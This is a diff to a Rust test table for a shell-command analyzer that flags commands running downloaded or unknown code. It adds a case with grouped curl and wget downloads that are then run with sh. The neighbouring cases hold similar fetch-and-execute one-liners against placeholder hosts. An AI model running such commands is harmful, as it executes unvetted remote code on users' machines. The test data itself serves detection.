@@ -195,6 +195,7 @@ const FLOW: &[Case] = &[
     ("download as a command", "$(curl http://x)", "shell: □ !fetched-code || substitution: curl http://x"),
     ("download to a file that runs", "curl -o x.sh http://a/x.sh && chmod +x x.sh && sh x.sh", "shell: curl -o x.sh http://a/x.sh || shell: chmod +x x.sh || shell: sh x.sh !fetched-code"),
     ("download by its own name", "wget http://a/i.sh; bash i.sh", "shell: wget http://a/i.sh || shell: bash i.sh !fetched-code"),
+    ("a download in a group", "(curl -o x http://a/b; sh x); if a; then wget http://a/c; sh c; fi", "shell: curl -o x http://a/b || shell: sh x !fetched-code || shell: a || shell: wget http://a/c || shell: sh c !fetched-code"),
     ("download with -O", "curl -sSLO http://a/i.sh && sh ./i.sh", "shell: curl -sSLO http://a/i.sh || shell: sh ./i.sh !fetched-code"),
     ("unknown text into a shell", "cat list | sh", "shell: cat list || shell: sh !unknown-code"),
     ("unknown transformation into a shell", "cat a | awk 1 | sh", "shell: cat a || shell: awk 1 || shell: sh !unknown-code"),
